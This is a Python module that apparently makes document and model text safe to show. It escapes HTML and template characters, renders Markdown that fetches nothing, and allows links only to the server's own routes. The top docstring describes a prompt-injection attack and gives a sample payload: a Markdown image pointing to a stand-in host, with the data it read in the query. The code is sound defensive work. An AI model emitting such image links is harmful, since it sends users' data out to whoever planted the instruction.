"""Text of documents and models, made safe to show: in HTML, or as Markdown that fetches nothing.

Whoever writes a document can have a model repeat `![](https://elsewhere/?what-it-read)`: a renderer then fetches that
address and the text has left (CVE-2025-32711 and many like it). Nothing that a document or a model wrote becomes an
image, a link or HTML here, then; links are made by `own_link`, by us, to routes of ours.
"""

from html import escape

from elt_llm_api.serve.safe_markdown import SafeMarkdown
from elt_llm_api.serve.visible import made_visible

_TEMPLATE = str.maketrans({"$": "&#36;", "{": "&#123;", "}": "&#125;", "`": "&#96;", "\\": "&#92;"})


def as_text(text: str) -> str:
    """The text for HTML, between tags or in quoted attributes; also for templates that fill in `${...}` or `{{...}}`.

    Control characters and those that turn the direction of writing are shown by their number.
    """
    return escape(made_visible(text), quote=True).translate(_TEMPLATE)


def as_markdown(text: str) -> str:
    """The text as Markdown: lists, tables, code and emphasis stay; addresses are to be read, not followed."""
    safe = SafeMarkdown()
    return safe.feed(text) + safe.end()


def own_link(label: str, route: str) -> str:
    """A Markdown link to a route of this server, such as `/v1/documents/3`. Raises ValueError for any other address."""
    is_own = route.startswith("/") and not route.startswith("//") and route.isascii()
    if not is_own or any(sign in route for sign in "\\()<>[]\"'` ") or not route.isprintable():
        raise ValueError(f"'{route}' is no route of this server.")
    named = as_markdown(" ".join(label.split()))
    for sign in "\\[]`":
        named = named.replace(sign, f"\\{sign}")
    return f"[{named}]({route})"
